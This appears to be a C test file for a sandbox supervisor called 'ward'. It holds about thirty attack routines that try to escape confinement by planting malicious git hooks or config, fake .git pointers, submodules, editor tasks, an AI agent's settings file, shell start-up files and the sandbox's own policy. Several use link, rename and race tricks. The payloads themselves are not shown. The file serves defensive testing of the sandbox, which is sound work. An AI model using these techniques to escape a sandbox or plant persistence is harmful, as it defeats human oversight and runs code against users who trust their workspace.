/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks that leave something behind in the workspace which runs a program outside: when a person
 * next uses git, a shell, an editor there. The argument is the command that would run. Whether one
 * succeeded is seen outside, afterwards. */
#include "evil.h"

#include <fcntl.h>
#include <linux/fs.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

static int attack_hook(char **arguments)
{
	(void)arguments;
	return verdict(put("deep/er/.git/hooks/pre-commit", evil_hook) == 0, "a hook");
}

static int attack_hook_by_rename(char **arguments)
{
	(void)arguments;
	put("hook", evil_hook);
	if (rename("hook", "deep/er/.git/hooks/pre-commit") < 0) {
		put("deep/er/.git/hooks/x.sample", evil_hook);
		return verdict(
			rename("deep/er/.git/hooks/x.sample", "deep/er/.git/hooks/pre-commit") == 0,
			"renaming a sample");
	}
	return verdict(true, "renaming into the hooks");
}

static int attack_hook_by_link(char **arguments)
{
	(void)arguments;
	put("hook", evil_hook);
	if (link("hook", "deep/er/.git/hooks/pre-commit") == 0)
		return verdict(true, "a hard link");
	return verdict(symlink("../../hook", "deep/er/.git/hooks/pre-commit") == 0, "a symlink");
}

static int attack_hooks_replaced(char **arguments)
{
	(void)arguments;
	mkdir("hooks", 0755);
	put("hooks/pre-commit", evil_hook);
	if (renameat2(AT_FDCWD, "hooks", AT_FDCWD, "deep/er/.git/hooks", RENAME_EXCHANGE) == 0)
		return verdict(true, "exchanging the hooks");
	rename("deep/er/.git/hooks", "deep/er/.git/old");
	return verdict(rename("hooks", "deep/er/.git/hooks") == 0, "other hooks");
}

static int attack_config(char **arguments)
{
	(void)arguments;
	return verdict(put("deep/er/.git/config", evil_config) == 0, "the configuration");
}

static int attack_config_by_rename(char **arguments)
{
	(void)arguments;
	put("deep/er/.git/config.lock", evil_config);
	if (rename("deep/er/.git/config.lock", "deep/er/.git/config") == 0)
		return verdict(true, "renaming over the configuration");
	put("config", evil_config);
	return verdict(rename("config", "deep/er/.git/config") == 0, "renaming from outside");
}

/* What was looked at is harmless, and changed through the fd that is still open. */
static int attack_config_later(char **arguments)
{
	static const char good[] = "[core]\n\trepositoryformatversion = 0\n";
	int fd = open("deep/er/.git/config.lock", O_RDWR | O_CREAT, 0644), r;

	(void)arguments;
	if (fd < 0)
		return verdict(false, "opening config.lock");
	(void)!write(fd, good, sizeof(good) - 1);
	r = rename("deep/er/.git/config.lock", "deep/er/.git/config");
	ftruncate(fd, 0);
	(void)!pwrite(fd, evil_config, strlen(evil_config), 0);
	return verdict(r == 0, "renaming first, writing then");
}

static int attack_config_by_link(char **arguments)
{
	(void)arguments;
	if (link("deep/er/.git/config", "twin") < 0)
		return verdict(false, "a second name");
	return verdict(put("twin", evil_config) == 0, "writing by it");
}

static int attack_config_by_fd(char **arguments)
{
	int fd = open("deep/er/.git/config", O_RDONLY);
	char path[64];

	(void)arguments;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return verdict(put(path, evil_config) == 0, "opening it again");
}

static int attack_parent_renamed(char **arguments)
{
	(void)arguments;
	if (rename("deep", "other") < 0)
		return verdict(false, "renaming a parent");
	return verdict(put("other/er/.git/hooks/pre-commit", evil_hook) == 0 ||
			       put("other/er/.git/config", evil_config) == 0,
		       "by the new name");
}

static int attack_other_file(char **arguments)
{
	(void)arguments;
	make_evil_repository("deep/evil");
	rename("deep/er/.git", "deep/er/old");
	return verdict(put("deep/er/.git", evil_pointer) == 0, "a file in its place");
}

static int attack_other_directory(char **arguments)
{
	(void)arguments;
	rename("deep/er/.git", "deep/er/old");
	make_evil_repository("x");
	return verdict(rename("x", "deep/er/.git") == 0, "a directory in its place");
}

static int attack_exchanged(char **arguments)
{
	(void)arguments;
	make_evil_repository("x");
	return verdict(renameat2(AT_FDCWD, "x", AT_FDCWD, "deep/er/.git", RENAME_EXCHANGE) == 0,
		       "exchanging");
}

static int attack_other_link(char **arguments)
{
	(void)arguments;
	make_evil_repository("evil");
	mkdir("new", 0755);
	return verdict(symlink("../evil", "new/.git") == 0, "a link as .git");
}

static int attack_pointer(char **arguments)
{
	(void)arguments;
	make_evil_repository("evil");
	mkdir("new", 0755);
	return verdict(put("new/.git", evil_pointer) == 0, "a file that leads to it");
}

static int attack_common(char **arguments)
{
	(void)arguments;
	make_evil_repository("evil");
	mkdir("new", 0755);
	put("new/HEAD", "ref: refs/heads/main\n");
	return verdict(put("new/commondir", "../evil\n") == 0, "a common directory");
}

static int attack_new(char **arguments)
{
	(void)arguments;
	mkdir("new", 0755);
	make_evil_repository("new/.git");
	return verdict(access("new/.git/config", F_OK) == 0, "a new repository");
}

static int attack_new_case(char **arguments)
{
	(void)arguments;
	mkdir("new", 0755);
	make_evil_repository("new/.GIT");
	rename("new/.GIT", "new/x");
	return verdict(rename("new/x", "new/.git") == 0, "a name in other letters");
}

static int attack_new_hook(char **arguments)
{
	(void)arguments;
	mkdir("new", 0755);
	make_evil_repository("new/.git");
	mkdir("new/.git/hooks", 0755);
	return verdict(put("new/.git/hooks/pre-commit", evil_hook) == 0, "a hook in it");
}

/* The directory is held from before anything can lie over it, and the path is rewritten while the
 * supervisor looks. */
static char racing[64] = "harmless";
static int holder = -1;
static volatile bool done;

static void *grab(void *data)
{
	(void)data;
	while (!done && holder < 0)
		holder = open("new/.git", O_PATH | O_DIRECTORY);
	return NULL;
}

static void *rewrite(void *data)
{
	(void)data;
	while (!done) {
		memcpy(racing, "harmless", 9);
		linger(300);
		memcpy(racing, "config\0\0", 9);
		linger(300);
	}
	return NULL;
}

static int attack_new_race(char **arguments)
{
	uint64_t until;

	(void)arguments;
	mkdir("new", 0755);
	start_racer(grab, NULL);
	usleep(2000);
	make_evil_repository("new/.git");
	usleep(2000);
	if (holder < 0)
		holder = open("new/.git", O_PATH | O_DIRECTORY);
	start_racer(rewrite, NULL);
	for (until = now_ms() + RACE_MS; now_ms() < until;) {
		int fd = openat(holder, racing, O_WRONLY | O_CREAT, 0644);

		if (fd < 0)
			continue;
		(void)!write(fd, evil_config, strlen(evil_config));
		close(fd);
	}
	done = true;
	return verdict(faccessat(holder, "config", F_OK, 0) == 0, "a race for its configuration");
}

/* The same race for a name in an ordinary directory. */
static void *rewrite_name(void *data)
{
	(void)data;
	while (!done) {
		memcpy(racing, "bashrc\0", 8);
		linger(300);
		memcpy(racing, ".bashrc", 8);
		linger(300);
	}
	return NULL;
}

static int attack_startup_race(char **arguments)
{
	uint64_t until;

	(void)arguments;
	start_racer(rewrite_name, NULL);
	for (until = now_ms() + RACE_MS; now_ms() < until && access(".bashrc", F_OK) < 0;) {
		int fd = open(racing, O_WRONLY | O_CREAT, 0644);

		if (fd >= 0)
			(void)!write(fd, evil_hook, strlen(evil_hook));
		if (fd >= 0)
			close(fd);
	}
	done = true;
	return verdict(access(".bashrc", F_OK) == 0, "a race for a start-up file");
}

/* The same for a directory. */
static void *rewrite_directory(void *data)
{
	(void)data;
	while (!done) {
		memcpy(racing, "xgit", 5);
		linger(300);
		memcpy(racing, ".git", 5);
		linger(300);
	}
	return NULL;
}

static int attack_mkdir_race(char **arguments)
{
	uint64_t until;

	(void)arguments;
	mkdir("new", 0755);
	chdir("new");
	start_racer(rewrite_directory, NULL);
	for (until = now_ms() + RACE_MS; now_ms() < until && access(".git", F_OK) < 0;) {
		mkdir(racing, 0755);
		rmdir("xgit");
	}
	done = true;
	make_evil_repository(".git");
	return verdict(access(".git/config", F_OK) == 0, "a race for a directory");
}

static int attack_bare(char **arguments)
{
	(void)arguments;
	make_evil_repository("bare");
	return verdict(access("bare/refs", F_OK) == 0, "a repository without the name");
}

static int attack_bare_later(char **arguments)
{
	int fd;

	(void)arguments;
	mkdir("bare", 0755);
	fd = open("bare/config", O_RDWR | O_CREAT, 0644);
	put("bare/HEAD", "ref: refs/heads/main\n");
	mkdir("bare/refs", 0755);
	mkdir("bare/objects", 0755);
	(void)!write(fd, evil_config, strlen(evil_config));
	put("bare/config", evil_config);
	return verdict(true, "its configuration afterwards");
}

static int attack_bare_moved(char **arguments)
{
	(void)arguments;
	mkdir("bare", 0755);
	put("bare/config", evil_config);
	put("bare/HEAD", "ref: refs/heads/main\n");
	mkdir("bare/refs", 0755);
	mkdir("o", 0755);
	return verdict(rename("o", "bare/objects") == 0, "by a rename");
}

static int attack_renamed_repository(char **arguments)
{
	(void)arguments;
	mkdir("new", 0755);
	mkdir("new/.git", 0755);
	mkdir("new/.git/objects", 0755);
	mkdir("new/.git/refs", 0755);
	put("new/.git/HEAD", "ref: refs/heads/main\n");
	if (rename("new/.git", "new/plain") < 0)
		return verdict(false, "another name for it");
	put("new/plain/config", evil_config);
	put("config", evil_config);
	rename("config", "new/plain/config");
	return verdict(rename("new/plain", "new/.git") == 0, "and its name again");
}

static int attack_module(char **arguments)
{
	(void)arguments;
	make_evil_repository("x");
	mkdir("deep/er/.git/modules", 0755);
	if (rename("x", "deep/er/.git/modules/x") < 0)
		make_evil_repository("deep/er/.git/modules/x");
	mkdir("deep/er/sub", 0755);
	return verdict(put("deep/er/sub/.git", "gitdir: ../.git/modules/x\n") == 0, "a submodule");
}

static int attack_settings(char **arguments)
{
	(void)arguments;
	mkdir(".vscode", 0755);
	return verdict(put(".vscode/tasks.json", evil_hook) == 0, "an editor's settings");
}

static int attack_settings_renamed(char **arguments)
{
	(void)arguments;
	mkdir("x", 0755);
	put("x/tasks.json", evil_hook);
	return verdict(rename("x", ".vscode") == 0, "a directory of settings");
}

static int attack_settings_there(char **arguments)
{
	(void)arguments;
	put("x", evil_hook);
	return verdict(put("deep/.claude/settings.json", evil_hook) == 0 ||
			       rename("x", "deep/.claude/settings.json") == 0 ||
			       link("x", "deep/.claude/settings.json") == 0,
		       "an agent's settings");
}

static int attack_startup(char **arguments)
{
	(void)arguments;
	put("x", evil_hook);
	return verdict(put(".bashrc", evil_hook) == 0 || rename("x", ".bashrc") == 0 ||
			       link("x", ".bashrc") == 0 || symlink("x", ".bashrc") == 0 ||
			       mknod(".bashrc", S_IFREG | 0644, 0) == 0,
		       "a start-up file");
}

static int attack_startup_there(char **arguments)
{
	(void)arguments;
	unlink("deep/.profile");
	rename("deep/.profile", "deep/x");
	return verdict(put("deep/.profile", evil_hook) == 0, "one that is there");
}

static int attack_policy(char **arguments)
{
	(void)arguments;
	return verdict(put(".ward.yaml", evil_hook) == 0, "ward's policy");
}

static const struct attack attacks[] = {
	{"hook", 1, attack_hook},
	{"hook-by-rename", 1, attack_hook_by_rename},
	{"hook-by-link", 1, attack_hook_by_link},
	{"hooks-replaced", 1, attack_hooks_replaced},
	{"config", 1, attack_config},
	{"config-by-rename", 1, attack_config_by_rename},
	{"config-later", 1, attack_config_later},
	{"config-by-link", 1, attack_config_by_link},
	{"config-by-fd", 1, attack_config_by_fd},
	{"parent-renamed", 1, attack_parent_renamed},
	{"other-file", 1, attack_other_file},
	{"other-directory", 1, attack_other_directory},
	{"exchanged", 1, attack_exchanged},
	{"other-link", 1, attack_other_link},
	{"pointer", 1, attack_pointer},
	{"common", 1, attack_common},
	{"new", 1, attack_new},
	{"new-case", 1, attack_new_case},
	{"new-hook", 1, attack_new_hook},
	{"new-race", 1, attack_new_race},
	{"mkdir-race", 1, attack_mkdir_race},
	{"bare", 1, attack_bare},
	{"bare-later", 1, attack_bare_later},
	{"bare-moved", 1, attack_bare_moved},
	{"renamed-repository", 1, attack_renamed_repository},
	{"module", 1, attack_module},
	{"settings", 1, attack_settings},
	{"settings-renamed", 1, attack_settings_renamed},
	{"settings-there", 1, attack_settings_there},
	{"startup", 1, attack_startup},
	{"startup-there", 1, attack_startup_there},
	{"startup-race", 1, attack_startup_race},
	{"policy", 1, attack_policy},
};

int main(int argc, char **argv)
{
	prepare_evil(argc, argv);
	return attack_main(attacks, ELEMENTS(attacks), argc, argv);
}
